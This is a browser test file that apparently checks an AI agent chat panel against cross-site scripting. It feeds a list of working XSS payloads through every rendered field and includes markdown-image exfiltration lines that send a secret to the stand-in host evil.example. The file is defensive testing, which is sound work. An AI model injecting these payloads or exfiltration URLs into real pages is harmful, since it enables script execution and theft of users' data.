"""XSS matrix: attack payloads in every field the panel shows; none may run.

Every payload tries to set `window.__xss` or open a dialog; the page records both. Markdown
text goes through DOMPurify; tool names, arguments, results and error messages are text.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import expect
from slim_streams import client, normalise, user

pytestmark = pytest.mark.browser

PAYLOADS = [
    '<img src=x onerror="window.__xss=true;alert(1)">',
    "<script>window.__xss=true;alert(2)</script>",
    "[click me](javascript:window.__xss=true;alert(3))",
    '<a href="javascript:window.__xss=true;alert(4)">link</a>',
    '<a href="jav&#x09;ascript:alert(5)">tabbed</a>',
    '<svg onload="window.__xss=true;alert(6)"><script>alert(7)</script></svg>',
    '<svg><animate onbegin="alert(8)" attributeName="x" dur="1s"/></svg>',
    '<iframe srcdoc="<script>parent.__xss=true;alert(9)</script>"></iframe>',
    '<details open ontoggle="window.__xss=true;alert(10)"><summary>x</summary></details>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=)",
    "![img](javascript:alert(12))",
    '![x](x" onerror="alert(13))',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>",
    '<form><button formaction="javascript:alert(15)">go</button></form>',
    '<b onmouseover="window.__xss=true;alert(16)">hover</b>',
    '<object data="javascript:alert(17)"></object><embed src="javascript:alert(18)">',
    '<div style="background:url(javascript:alert(19))" id="pw-root">styled</div>',
]
ATTACK = "\n\n".join(PAYLOADS)
RUN = "run_xss000000001"


def _events(context: str) -> list[dict]:
    """A run carrying the payloads in one field."""
    start = {"event": "start", "run_id": RUN, "session_id": "sess_xss000000001"}
    frames: list[dict] = [start]
    if context == "chunk text":
        frames += [
            {"event": "content_delta", "delta": ATTACK},
            {"event": "chunk", "content": ATTACK},
        ]
    elif context == "tool name":
        for i, p in enumerate(PAYLOADS):
            frames.append(
                {"event": "tool_call", "tool_name": p, "arguments": {}, "call_id": f"c{i}"}
            )
    elif context == "arguments":
        args = {p: p for p in PAYLOADS} | {"nested": {"list": PAYLOADS}}
        frames.append({"event": "tool_call", "tool_name": "t", "arguments": args, "call_id": "c"})
    elif context == "result":
        frames += [
            {"event": "tool_call", "tool_name": "t", "arguments": {}, "call_id": "c1"},
            {"event": "tool_result", "tool_name": "t", "call_id": "c1", "result": ATTACK},
            {"event": "tool_call", "tool_name": "t", "arguments": {}, "call_id": "c2"},
            {
                "event": "tool_result",
                "tool_name": "t",
                "call_id": "c2",
                "result": {"html": PAYLOADS, "long": ATTACK * 20},
            },
        ]
    elif context == "error message":
        frames.append({"event": "error", "error": ATTACK, "code": PAYLOADS[0]})
    elif context == "reasoning and approval":
        frames += [
            {"event": "reasoning_delta", "step": 1, "delta": ATTACK},
            {
                "event": "approval_requested",
                "tool_name": PAYLOADS[0],
                "tool_input": {"x": ATTACK},
                "message": ATTACK,
            },
        ]
    return [user(ATTACK), *normalise(frames)]


def _assert_inert(chat) -> None:
    """Nothing ran, and nothing dangerous is left in the panel's DOM."""
    chat.settle()
    # Open every card and fold, hover everything: handlers would fire now if present.
    chat.page.evaluate(
        "() => { for (const d of document.querySelectorAll('#host details')) d.open = true;"
        " for (const b of document.querySelectorAll('#host .pw-json-toggle, #host .pw-show-all'))"
        " b.click(); }"
    )
    chat.page.evaluate(
        "() => { for (const e of document.querySelectorAll('#host *')) for (const t of"
        " ['mouseover', 'focus', 'load', 'error']) e.dispatchEvent(new Event(t)); }"
    )
    chat.page.wait_for_timeout(300)
    assert chat.dialogs == []
    assert not chat.xss_fired()
    report = chat.page.evaluate(
        """() => {
        const host = document.getElementById('host');
        const all = [...host.querySelectorAll('*')];
        return {
          scripts: host.querySelectorAll(
            'script, iframe, object, embed, svg, math, form, style').length,
          handlers: all.filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
          badLinks: [...host.querySelectorAll('a[href]')].filter(
            a => !/^(https?:|mailto:|#)/i.test(a.getAttribute('href'))
              && /^[a-z][a-z0-9+.-]*:/i.test(a.getAttribute('href'))).length,
          unsafeTargets: [...host.querySelectorAll('a[href]')].filter(
            a => a.target !== '_blank' || a.rel !== 'noopener noreferrer').length,
          styled: host.querySelectorAll('.pw-markdown [style], .pw-markdown [id]').length,
        };
    }"""
    )
    assert report == {"scripts": 0, "handlers": 0, "badLinks": 0, "unsafeTargets": 0, "styled": 0}


CONTEXTS = [
    "chunk text",
    "tool name",
    "arguments",
    "result",
    "error message",
    "reasoning and approval",
]


@pytest.mark.parametrize("context", CONTEXTS)
def test_payloads_never_run(chat, context: str):
    chat.mount()
    chat.snapshot([])
    chat.events(_events(context))
    _assert_inert(chat)
    # Text fields show the payload literally (as text, not markup).
    if context == "tool name":
        expect(chat.page.get_by_test_id("tool-name").first).to_have_text(PAYLOADS[0])
    if context == "error message":
        expect(chat.page.get_by_test_id("error-message")).to_contain_text(PAYLOADS[1])
    expect(chat.page.get_by_test_id("user-message")).to_contain_text(PAYLOADS[0])


def test_payloads_in_history_banner_and_agent_name_never_run(chat):
    history = [
        client("history", text=ATTACK, arguments={"role": "user"}),
        client("history", text=ATTACK, arguments={"role": "assistant"}),
    ]
    chat.mount(history=history, banner=ATTACK, agent_name=PAYLOADS[0], placeholder=PAYLOADS[1])
    _assert_inert(chat)
    expect(chat.page.get_by_test_id("agent-name")).to_have_text(PAYLOADS[0])


def test_safe_links_survive_and_open_in_a_new_tab(chat):
    chat.mount()
    chat.snapshot([])
    chat.events(
        [
            user("links"),
            *normalise(
                [
                    {"event": "start", "run_id": RUN},
                    {
                        "event": "chunk",
                        "content": "[docs](https://example.com/docs) and [mail](mailto:a@b.c)",
                    },
                ]
            ),
        ]
    )
    links = chat.page.locator(".pw-markdown a")
    expect(links).to_have_count(2)
    expect(links.first).to_have_attribute("href", "https://example.com/docs")
    expect(links.first).to_have_attribute("rel", "noopener noreferrer")
    expect(links.first).to_have_attribute("target", "_blank")


def test_the_local_servers_xss_agent_is_inert(chat, client):
    """The fault_xss agent's real stream, through the real client and normaliser."""
    from slim_streams import slim_event

    with client.stream_run("fault_xss", "attack") as stream:
        events = [slim_event(e) for e in stream]
    chat.mount()
    chat.snapshot([])
    chat.events([user("attack"), *events])
    expect(chat.page.get_by_test_id("error-card")).to_be_visible()
    _assert_inert(chat)
    expect(chat.page.get_by_test_id("tool-name")).to_have_text("<img src=x onerror=alert('tool')>")


def test_the_detector_itself_sees_a_payload_that_runs(chat):
    """Control: were a payload inserted as HTML, the flag and the dialog listener catch it."""
    chat.page.evaluate(
        "() => { document.getElementById('host').innerHTML ="
        " '<img src=x onerror=\"window.__xss=true;alert(1)\">'; }"
    )
    chat.page.wait_for_function("() => window.__xss === true")
    chat.page.wait_for_timeout(200)
    assert chat.dialogs == ["1"]


def test_answers_fetch_nothing_by_themselves(chat):
    """Injected markdown cannot send data anywhere: remote images become links, no request."""
    requests: list[str] = []
    chat.page.on("request", lambda r: requests.append(r.url))
    chat.mount()
    chat.snapshot([])
    md = (
        "![secret](https://evil.example/p.png?k=SECRET)\n\n"
        '<img src="https://evil.example/i.png"> <video poster="https://evil.example/v.png">'
        '</video> <table background="https://evil.example/t.png"><tr><td>x</td></tr></table>'
        ' <a href="https://example.com" ping="https://evil.example/ping">p</a>'
        " [rel](/api/contents) ![inline](data:image/png;base64,iVBORw0KGgo=)"
    )
    chat.events([user("img"), *normalise([{"event": "start"}, {"event": "chunk", "content": md}])])
    link = chat.page.locator(".pw-image-link").first
    expect(link).to_have_attribute("href", "https://evil.example/p.png?k=SECRET")
    expect(link).to_contain_text("secret")
    chat.page.wait_for_timeout(300)
    assert not [u for u in requests if "evil.example" in u]
    assert chat.page.locator(".pw-markdown img:not([src^='data:'])").count() == 0
    assert chat.page.locator(".pw-markdown [ping], .pw-markdown [background]").count() == 0
    rel = chat.page.locator(".pw-markdown a", has_text="rel")
    assert rel.get_attribute("href") is None
